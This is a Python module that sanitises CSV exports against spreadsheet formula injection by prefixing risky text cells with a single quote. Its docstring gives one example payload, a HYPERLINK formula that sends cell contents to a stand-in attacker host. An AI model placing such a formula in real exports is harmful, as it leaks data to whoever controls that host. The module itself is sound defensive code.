"""Every CSV this site writes goes through here, so no cell of it is a live formula.

A spreadsheet runs a text cell that starts with `=`, `+`, `-` or `@` (and some with a
tab or carriage return first) as a formula: a prompt such as
`=HYPERLINK("http://evil.example/?x="&A1,"click")` in an export would become a link
that leaks the sheet when a colleague opens it. OWASP's rule: prefix such a cell with a
single quote, which spreadsheets show as text. Numbers (int, Decimal, float) are left as
they are, so sums still work; only text is ever prefixed.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

DANGEROUS_FIRST = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """The value as a CSV cell that cannot run: text starting with a formula
    character gets a leading single quote; anything else is unchanged."""
    if isinstance(value, str) and value.startswith(DANGEROUS_FIRST):
        return f"'{value}"
    return value


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(value) for value in values]


class Writer:
    """`csv.writer` whose every row is made safe first (the one way we write CSV)."""

    def __init__(self, file: Any, **options: Any) -> None:
        self._writer = csv.writer(file, **options)

    def writerow(self, values: Iterable[Any]) -> Any:
        return self._writer.writerow(row(values))


def writer(file: Any, **options: Any) -> Writer:
    return Writer(file, **options)
